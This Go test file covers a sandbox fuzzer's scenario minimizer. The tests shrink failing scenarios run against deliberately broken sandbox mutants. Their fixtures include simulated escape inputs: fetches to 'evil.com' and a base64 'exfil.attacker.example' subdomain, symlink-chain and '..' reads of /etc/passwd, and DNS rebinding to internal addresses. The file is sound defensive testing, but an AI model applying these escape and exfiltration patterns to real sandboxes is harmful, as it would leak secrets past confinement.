package minimize

import (
	"fmt"
	"math"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/sbxfuzz/sbxfuzz/core"
	"github.com/sbxfuzz/sbxfuzz/internal/must"
	"github.com/sbxfuzz/sbxfuzz/internal/spec"
	"github.com/sbxfuzz/sbxfuzz/mutants"
	"github.com/sbxfuzz/sbxfuzz/oracle"
	"github.com/sbxfuzz/sbxfuzz/scenario"
)

// readsEverything is the reference built over a grant that reads under "/":
// a sandbox that ignores its fs_read roots.
func readsEverything(g core.Grant, w core.World) (core.Sandbox, error) {
	wide := must.Grant(core.GrantSpec{FSRead: []string{"/"}, FSWrite: g.FSWrite(), NetHosts: g.NetHosts(), Tools: g.Tools(), Budgets: g.Budgets()})
	return core.NewReference(wide, w), nil
}

const noisy = `# a long scenario with one leak in the middle
grant fs_read /work/
grant fs_write /work/out/
grant net api.internal
grant tool echo
budget ops 50
file /work/a.txt alpha
file /workshop/secret s3cr3t
route api.internal /status ok
dns api.internal 203.0.113.9

fs_read /work/a.txt
fs_write /work/out/x "some data"
net_fetch api.internal /status
tool echo hello
fs_read /workshop/secret
fs_read /work/a.txt
tool echo again
net_fetch evil.com /
`

func parse(t *testing.T, src string) *scenario.Scenario {
	t.Helper()
	sc, err := scenario.Parse("t.sbx", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	return sc
}

func TestMinimizeFindsTheKnownMinimalScenario(t *testing.T) {
	sc := parse(t, noisy)
	fails := Violates(readsEverything, oracle.Confinement, 0)
	if !fails(sc) {
		t.Fatal("the noisy scenario does not fail")
	}
	if Violates(core.ReferenceFactory, oracle.Confinement, 0)(sc) {
		t.Fatal("the reference fails the noisy scenario")
	}
	min, stats := Minimize(sc, 5, fails, Limits{})
	if diff := cmp.Diff("fs_read /\n", string(min.Format())); diff != "" {
		t.Fatalf("minimized scenario mismatch (-want +got):\n%s", diff)
	}
	if stats.Calls == 0 || stats.Calls > 500 {
		t.Errorf("%d predicate calls", stats.Calls)
	}
	assertOneMinimal(t, min, fails)
}

// assertOneMinimal removes each op and each entry in turn and wants every
// such candidate to pass.
func assertOneMinimal(t *testing.T, sc *scenario.Scenario, fails Predicate) {
	t.Helper()
	for i := range sc.Steps {
		c := sc.Clone()
		c.Steps = append(c.Steps[:i], c.Steps[i+1:]...)
		if fails(c) {
			t.Errorf("still fails without op %d:\n%s", i+1, c.Format())
		}
	}
	lists := []*[]string{&sc.Grant.FSRead, &sc.Grant.FSWrite, &sc.Grant.NetHosts, &sc.Grant.Tools}
	for li := range lists {
		for i := range *lists[li] {
			c := sc.Clone()
			l := []*[]string{&c.Grant.FSRead, &c.Grant.FSWrite, &c.Grant.NetHosts, &c.Grant.Tools}[li]
			*l = append((*l)[:i], (*l)[i+1:]...)
			if fails(c) {
				t.Errorf("still fails without grant entry %d of list %d", i, li)
			}
		}
	}
	for i := range sc.World.Files {
		c := sc.Clone()
		c.World.Files = append(c.World.Files[:i], c.World.Files[i+1:]...)
		if fails(c) {
			t.Errorf("still fails without file %d", i)
		}
	}
}

// loopbackFetcher is a world that sends every fetch to 127.0.0.1.
type loopbackFetcher struct{ core.World }

func (w loopbackFetcher) Fetch(host string, _ netip.Addr, path string) (string, bool) {
	return w.World.Fetch(host, netip.MustParseAddr("127.0.0.1"), path)
}

// TestMinimizeKeepsWhatTheFailureNeeds: an egress failure needs a granted
// host and a fetch of it, and nothing else; the fetch's path stays one a
// URL carries ("/", not ""), as the original's was, so that a door that
// sends it over HTTP still does.
func TestMinimizeKeepsWhatTheFailureNeeds(t *testing.T) {
	sc := parse(t, noisy)
	loopback := func(g core.Grant, w core.World) (core.Sandbox, error) {
		return core.NewReference(g, loopbackFetcher{w}), nil
	}
	fails := Violates(loopback, oracle.NoInternalEgress, 0)
	min, _ := Minimize(sc, 0, fails, Limits{})
	want := "grant net api.internal\n\nnet_fetch api.internal /\n"
	if diff := cmp.Diff(want, string(min.Format())); diff != "" {
		t.Fatalf("minimized scenario mismatch (-want +got):\n%s", diff)
	}
	assertOneMinimal(t, min, fails)
}

func TestMinimizeOfAPassingScenarioChangesNothingMuch(t *testing.T) {
	sc := parse(t, noisy)
	min, stats := Minimize(sc, 0, Violates(core.ReferenceFactory, oracle.Confinement, 0), Limits{})
	if len(min.Steps) != len(sc.Steps) || stats.Calls != 1 {
		t.Fatalf("a passing scenario was changed: %d steps, %d calls", len(min.Steps), stats.Calls)
	}
}

func TestMinimizeMemoizes(t *testing.T) {
	sc := parse(t, noisy)
	calls := map[string]int{}
	fails := Violates(readsEverything, oracle.Confinement, 0)
	Minimize(sc, 0, func(c *scenario.Scenario) bool {
		calls[string(c.Format())]++
		return fails(c)
	}, Limits{})
	for text, n := range calls {
		if n > 1 {
			t.Errorf("candidate tried %d times:\n%s", n, text)
		}
	}
}

// TestMinimizeStopsAtItsCallLimit: a minimization that runs out of
// predicate calls says so, and still returns a failing scenario.
func TestMinimizeStopsAtItsCallLimit(t *testing.T) {
	sc := parse(t, noisy)
	calls := 0
	fails := Violates(readsEverything, oracle.Confinement, 0)
	min, stats := Minimize(sc, 0, func(c *scenario.Scenario) bool {
		calls++
		return fails(c)
	}, Limits{Calls: 3})
	if !stats.Cut || stats.Calls != 3 || calls != 3 {
		t.Errorf("stats %+v after %d predicate calls, want 3 calls and Cut", stats, calls)
	}
	if !fails(min) {
		t.Errorf("the result of a cut minimization does not fail:\n%s", min.Format())
	}
}

// TestMinimizeTriesTheHintedOpAlone: right after dropping the ops past the
// hinted step, the minimizer tries that op by itself (a hang, say, often
// fails alone), so an expensive predicate is spent on small candidates.
func TestMinimizeTriesTheHintedOpAlone(t *testing.T) {
	sc, err := scenario.Parse("noisy.sbx", []byte(noisy))
	if err != nil {
		t.Fatal(err)
	}
	fails := Violates(readsEverything, oracle.Confinement, 0)
	var sizes []int
	Minimize(sc, 5, func(c *scenario.Scenario) bool {
		sizes = append(sizes, len(c.Steps))
		return fails(c)
	}, Limits{})
	// The calls: the whole scenario, its first 5 ops, then op 5 alone.
	if len(sizes) < 3 || sizes[0] != 8 || sizes[1] != 5 || sizes[2] != 1 {
		t.Fatalf("the first candidates had %v ops, want 8, 5, 1", sizes[:min(len(sizes), 3)])
	}
}

// TestMinimizeStopsAtItsTimeLimit: with a predicate slower than the time
// limit allows, the minimizer stops early, says so, and still returns a
// failing scenario; it starts no candidate past the limit. It runs in a
// synctest bubble, whose clock moves only while every goroutine in it
// waits: the predicate's sleep is its only cost, however loaded the
// machine, so the bound is exact.
func TestMinimizeStopsAtItsTimeLimit(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		sc, err := scenario.Parse("noisy.sbx", []byte(noisy))
		if err != nil {
			t.Fatal(err)
		}
		const limit, call = 100 * time.Millisecond, 20 * time.Millisecond
		fails := Violates(readsEverything, oracle.Confinement, 0)
		slow := func(c *scenario.Scenario) bool { time.Sleep(call); return fails(c) }
		start := time.Now()
		got, stats := Minimize(sc, 0, slow, Limits{Time: limit})
		if took := time.Since(start); took > limit+call {
			t.Fatalf("a %v limit took %v, over %d calls of %v", limit, took, stats.Calls, call)
		}
		if !stats.Cut || !fails(got) {
			t.Fatalf("cut %v, result fails %v; want a cut minimization of a failing scenario", stats.Cut, fails(got))
		}
	})
}

// TestMinimizeRemovesBudgetBurners: a failure on the last op needs the
// ops before it only to bring it to a cap, or its clock tick past 2^63−1;
// removing one of them alone, or lowering a cap alone, loses it. The
// minimizer removes them with the budget they burn (and, where the tick
// itself matters, with the clock started one step later, so that every
// later tick is the same), down to one op.
func TestMinimizeRemovesBudgetBurners(t *testing.T) {
	for _, tc := range []struct {
		reason, mutant string
		inv            oracle.ID
		src            string
	}{
		{"the op that passes both max_ops and max_wall (the mutant halts max_wall where SPEC §5 charges the op first)",
			"wall-before-ops", oracle.ChargeBeforeDispatch, `budget ops 5
budget wall 5368709120
clock 0 1073728562

fs_read /a
fs_read /b
net_fetch evil.com /
fs_read /c
fs_read ..
fs_read /srv/app/missing
`},
		{"the op whose tick passes 2^63−1 (the mutant lets it through; SPEC §7 halts it max_wall)",
			"ignores-clock-overflow", oracle.VerdictMatchesModel, `budget wall 9223372036854762518
clock 1000000000 4611686018427387904

tool "GH\x80OST" hello
net_fetch c2VjcmV0cw.exfil.attacker.example /
`},
	} {
		m, ok := mutants.Lookup(tc.mutant)
		if !ok {
			t.Fatalf("no %s mutant", tc.mutant)
		}
		sc := parse(t, tc.src)
		fails := Violates(m.Factory, tc.inv, 0)
		if !fails(sc) {
			t.Fatalf("%s: the scenario does not fail on the mutant", tc.reason)
		}
		min, _ := Minimize(sc, len(sc.Steps), fails, Limits{})
		if len(min.Steps) != 1 {
			t.Fatalf("%s: minimized to %d ops, want 1:\n%s", tc.reason, len(min.Steps), min.Format())
		}
		assertOneMinimal(t, min, fails)
	}
}

// TestMinimizeShortensLinkChains: a read through a chain of 40 links out
// of the roots, on a sandbox that never resolves links, minimizes to one
// link straight out, though every link of the chain is needed while it
// stands, in not many more candidates than a single link takes: each link
// is first pointed at where its chain ends, not one hop at a time (a
// candidate a hop, and the links left one at a time, cost a slow sandbox
// its minute).
func TestMinimizeShortensLinkChains(t *testing.T) {
	var src strings.Builder
	src.WriteString("grant fs_read /work/\nfile /etc/passwd root\n")
	for i := range 40 {
		target := fmt.Sprintf("l%d", i+1) // relative, in /work/
		if i == 39 {
			target = "/etc"
		}
		fmt.Fprintf(&src, "link /work/l%d %s\n", i, target)
	}
	src.WriteString("\nfs_read /work/l0/passwd\n")
	sc, fails := readsThroughLinks(t, src.String())
	if !fails(sc) {
		t.Fatal("the chain does not fail on the mutant")
	}
	min, stats := Minimize(sc, 1, fails, Limits{})
	if len(min.World.Links) != 1 || min.World.Links[0].Target != "/etc" {
		t.Fatalf("minimized to %d links, want one to /etc:\n%s", len(min.World.Links), min.Format())
	}
	if stats.Calls >= 60 { // the chain removed in runs before it is shortened takes more; hop by hop, several times as many
		t.Errorf("%d candidates judged, want fewer than 60", stats.Calls)
	}
	assertOneMinimal(t, min, fails)
}

// TestMinimizeRemovesLinksInRuns: of 41 links, the read needs one; the
// other 40 go in a few runs of them, not one candidate each, which on a
// sandbox that takes a tenth of a second a candidate is the difference
// between seconds and a minute.
func TestMinimizeRemovesLinksInRuns(t *testing.T) {
	var src strings.Builder
	src.WriteString("grant fs_read /work/\nfile /etc/passwd root\nlink /work/l /etc\n")
	for i := range 40 {
		fmt.Fprintf(&src, "link /work/x%d /tmp/x%d\n", i, i)
	}
	src.WriteString("\nfs_read /work/l/passwd\n")
	sc, fails := readsThroughLinks(t, src.String())
	min, stats := Minimize(sc, 1, fails, Limits{})
	if len(min.World.Links) != 1 || min.World.Links[0].Path != "/work/l" {
		t.Fatalf("minimized to %d links, want /work/l alone:\n%s", len(min.World.Links), min.Format())
	}
	if stats.Calls >= 40 {
		t.Errorf("%d candidates judged, want fewer than one for each link that goes", stats.Calls)
	}
	assertOneMinimal(t, min, fails)
}

// TestMinimizeRemovesHostsInRuns: of 32 granted hosts, their routes and
// DNS lines, a fetch from an internal address needs one of each; the rest
// go in runs, not one candidate each: on a proxy started for every
// candidate, the difference between seconds and the minimizer's whole
// minute.
func TestMinimizeRemovesHostsInRuns(t *testing.T) {
	var src strings.Builder
	src.WriteString("grant net")
	for i := range 32 {
		fmt.Fprintf(&src, " h%d.test", i)
	}
	src.WriteString("\n")
	for i := range 32 {
		fmt.Fprintf(&src, "route h%d.test / page%d\ndns h%d.test 203.0.113.%d\n", i, i, i, i+1)
	}
	src.WriteString("dns h7.test 10.0.0.7\n\nnet_fetch h7.test /\n")
	m, ok := mutants.Lookup("no-internal-check")
	if !ok {
		t.Fatal("no no-internal-check mutant")
	}
	sc, fails := parse(t, src.String()), Violates(m.Factory, oracle.NoInternalEgress, 0)
	min, stats := Minimize(sc, 1, fails, Limits{})
	if len(min.Grant.NetHosts) != 1 || len(min.World.Routes) > 1 || len(min.World.DNS) != 1 {
		t.Fatalf("minimized to %d hosts, %d routes, %d DNS lines, want one of each at most:\n%s", len(min.Grant.NetHosts), len(min.World.Routes), len(min.World.DNS), min.Format())
	}
	if stats.Calls >= 64 {
		t.Errorf("%d candidates judged, want fewer than one for each host and route that goes", stats.Calls)
	}
	t.Logf("%d candidates", stats.Calls)
	assertOneMinimal(t, min, fails)
}

// readsThroughLinks parses src and returns it with the predicate of a
// confinement finding on the no-realpath mutant, which follows links
// without checking where they lead.
func readsThroughLinks(t *testing.T, src string) (*scenario.Scenario, Predicate) {
	t.Helper()
	m, ok := mutants.Lookup("no-realpath")
	if !ok {
		t.Fatal("no no-realpath mutant")
	}
	return parse(t, src), Violates(m.Factory, oracle.Confinement, 0)
}

// TestMinimizeShrinksAnOverflow: a finding that needs a fetch halted on
// max_output_bytes (as the harness charges a real fetch server) is written
// with a small budget and a body one byte over it, not the default budget
// and the megabyte body drawn to pass it.
func TestMinimizeShrinksAnOverflow(t *testing.T) {
	body := strings.Repeat("x", 1<<20+1)
	sc := parse(t, "grant net api.example.com\nroute api.example.com /big "+body+"\nroute api.example.com /status ok\n\nnet_fetch api.example.com /status\nnet_fetch api.example.com /big\n")
	halts := func(c *scenario.Scenario) bool { // a fetch of a body over the budget
		for _, st := range c.Steps {
			for _, r := range c.World.Routes {
				if st.Op.Kind == core.OpFetch && st.Op.Args[1] == r.Path && int64(len(r.Body)) > c.Grant.MaxOutputBytes {
					return true
				}
			}
		}
		return false
	}
	min, _ := Minimize(sc, 2, halts, Limits{})
	if n := len(min.Format()); n > 200 {
		t.Fatalf("minimized to %d bytes, want under 200:\n%.400s", n, min.Format())
	}
	if !halts(min) {
		t.Fatalf("the minimized scenario passes:\n%s", min.Format())
	}
}

// TestMinimizeWritesRootsPlainly: a root written with a trailing slash
// loses it where the failure does not need it, so that one failure found
// under both spellings is one text; where it needs it (the mutant that
// denies a root's own directory when written with one), it keeps it.
func TestMinimizeWritesRootsPlainly(t *testing.T) {
	sc, fails := readsThroughLinks(t, "grant fs_read /work/\nfile /etc/passwd root\nlink /work/l /etc\n\nfs_read /work/l/passwd\n")
	if min, _ := Minimize(sc, 1, fails, Limits{}); len(min.Grant.FSRead) != 1 || min.Grant.FSRead[0] != "/work" {
		t.Errorf("roots %q, want /work:\n%s", min.Grant.FSRead, min.Format())
	}
	m, ok := mutants.Lookup("root-itself-denied")
	if !ok {
		t.Fatal("no root-itself-denied mutant")
	}
	needs := parse(t, "grant fs_read /work/\nfile /work x\n\nfs_read /work\n")
	fails = Violates(m.Factory, oracle.VerdictMatchesModel, 0)
	if !fails(needs) {
		t.Fatal("the scenario does not fail on root-itself-denied")
	}
	if min, _ := Minimize(needs, 1, fails, Limits{}); len(min.Grant.FSRead) != 1 || min.Grant.FSRead[0] != "/work/" {
		t.Errorf("roots %q, want /work/ kept:\n%s", min.Grant.FSRead, min.Format())
	}
}

// TestMinimizeSpellsHostsAsWritten: a fetch whose host the scenario's
// grant or dns line spells another way (case, a trailing dot) is written
// in that spelling where the failure does not need the variant (a
// rebinding found through a case-folding guard reads as a rebinding), and
// keeps the variant where it does.
func TestMinimizeSpellsHostsAsWritten(t *testing.T) {
	src := "grant net a.example\ndns a.example 203.0.113.5 10.0.0.5\n\nnet_fetch a.example /\nnet_fetch A.EXAMPLE. /\n"
	fetchesOf := func(c *scenario.Scenario, match func(string) bool) int {
		n := 0
		for _, st := range c.Steps {
			if st.Op.Kind == core.OpFetch && len(st.Op.Args) == 2 && match(st.Op.Args[0]) {
				n++
			}
		}
		return n
	}
	plain := func(h string) bool { return spec.NormalizeHost(h) == "a.example" }
	for _, tc := range []struct {
		name, src string
		fails     Predicate
		want      []string
	}{
		{"twice, in any spelling", src, func(c *scenario.Scenario) bool { return fetchesOf(c, plain) >= 2 }, []string{"a.example", "a.example"}},
		{"the variant itself", src, func(c *scenario.Scenario) bool {
			return fetchesOf(c, func(h string) bool { return h == "A.EXAMPLE." }) == 1
		}, []string{"A.EXAMPLE."}},
		// A pass that traded the op's spelling for each of two lines in
		// turn would never end.
		{"a name its grant and its dns line spell two ways", "grant net a.example\ndns A.EXAMPLE 203.0.113.5\n\nnet_fetch A.EXAMPLE /\n", func(c *scenario.Scenario) bool {
			return len(c.Grant.NetHosts) == 1 && len(c.World.DNS) == 1 && fetchesOf(c, plain) == 1
		}, []string{"a.example"}},
	} {
		done := make(chan *scenario.Scenario)
		go func() {
			min, _ := Minimize(parse(t, tc.src), 0, tc.fails, Limits{})
			done <- min
		}()
		var min *scenario.Scenario
		select {
		case min = <-done:
		case <-time.After(time.Minute):
			t.Fatalf("%s: minimizing has not ended after a minute", tc.name)
		}
		var got []string
		for _, st := range min.Steps {
			got = append(got, st.Op.Args[0])
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%s: minimized to\n%s\nwant fetches of %q", tc.name, min.Format(), tc.want)
		}
	}
}

// TestMinimizeBisectsANumber: a failure that needs the clock to start
// within a million ticks of 2^63−1 (a tick past it, SPEC §7) is brought
// down to the lowest start that fails in a few dozen candidates, not one
// tick at a time until the budget runs out.
func TestMinimizeBisectsANumber(t *testing.T) {
	const lowest = math.MaxInt64 - 1_000_000
	sc := parse(t, "grant fs_read /work\nclock 9223372036854775000 1\n\nfs_read /work/a\n")
	overflows := func(c *scenario.Scenario) bool { return c.World.Clock.Start >= lowest && len(c.Steps) == 1 }
	min, st := Minimize(sc, 1, overflows, Limits{})
	if got := min.World.Clock.Start; got != lowest || st.Cut {
		t.Fatalf("clock start %d (cut %v) after %d candidates, want %d", got, st.Cut, st.Calls, int64(lowest))
	}
	if st.Calls > 200 {
		t.Errorf("%d candidates to bisect one number", st.Calls)
	}
}

// TestMinimizeCutsTheWorldToWhatItNames: a read through a chain of links
// out of its root, in a world drawn with files and links all over it,
// needs the chain and at most the file it reaches; the rest goes in one
// candidate, not in runs around a chain every link of which the failure
// needs.
func TestMinimizeCutsTheWorldToWhatItNames(t *testing.T) {
	var src strings.Builder
	src.WriteString("grant fs_read /work/\n")
	for i := range 40 {
		fmt.Fprintf(&src, "file /work/f%d data\nlink /work/x%d /tmp/x%d\n", i, i, i)
	}
	src.WriteString("file /etc/passwd root\nlink /work/l c0\nlink /work/c0 c1\nlink /work/c1 /etc\n\nfs_read /work/l/passwd\n")
	sc, fails := readsThroughLinks(t, src.String())
	if !fails(sc) {
		t.Fatal("the scenario does not fail on the mutant")
	}
	min, stats := Minimize(sc, 1, fails, Limits{})
	if len(min.World.Links) != 1 || len(min.World.Files) > 1 {
		t.Fatalf("minimized to %d links and %d files, want one link and at most the file it reaches:\n%s", len(min.World.Links), len(min.World.Files), min.Format())
	}
	if stats.Calls >= 24 { // the world removed in runs takes more
		t.Errorf("%d candidates judged, want fewer than 24", stats.Calls)
	}
	assertOneMinimal(t, min, fails)
}

// TestMinimizeLeavesDefaultBudgetsOfOneOp: a tiny budget is tried in a
// default's place only to let ops go, and of a single op none can go but
// the op itself: no candidate of a one-op failure writes one.
func TestMinimizeLeavesDefaultBudgetsOfOneOp(t *testing.T) {
	sc, fails := readsThroughLinks(t, "grant fs_read /work/\nfile /etc/passwd root\nlink /work/l /etc\n\nfs_read /work/l/passwd\n")
	var budgets []string
	min, _ := Minimize(sc, 1, func(c *scenario.Scenario) bool {
		if strings.Contains(string(c.Format()), "budget ") {
			budgets = append(budgets, string(c.Format()))
		}
		return fails(c)
	}, Limits{})
	if len(budgets) > 0 {
		t.Errorf("%d candidates of a one-op failure wrote a budget, the first:\n%s", len(budgets), budgets[0])
	}
	assertOneMinimal(t, min, fails)
}

// TestMinimizeFollowsLinksBoundedly: a link whose target lies below it
// (nest -> nest/x, as the generators draw one) names a longer path at
// every hop; cutting the world to what the scenario names follows it no
// further than a resolution does, and a minimization of a scenario that
// holds one ends.
func TestMinimizeFollowsLinksBoundedly(t *testing.T) {
	for _, src := range []string{
		"grant fs_read /opt\nbudget ops 1\nfile /opt/a x\nlink /opt/tool.d/nest nest/x\n\nfs_read /opt/tool.d/nest\nfs_read /opt/a\n",
		"grant fs_read /tmp/l/r\nfile /tmp/f x\nlink /tmp/l l/sub\n\nfs_read /tmp/l/r\n",
	} {
		sc := parse(t, src)
		done := make(chan *scenario.Scenario, 1)
		go func() {
			min, _ := Minimize(sc, 0, func(c *scenario.Scenario) bool { return len(c.World.Links) > 0 }, Limits{})
			done <- min
		}()
		select {
		case min := <-done:
			if len(min.World.Links) != 1 || len(min.World.Files) != 0 {
				t.Errorf("minimized to:\n%s", min.Format())
			}
		case <-time.After(time.Minute):
			t.Fatalf("the minimization of\n%s\ndid not end", src)
		}
	}
}
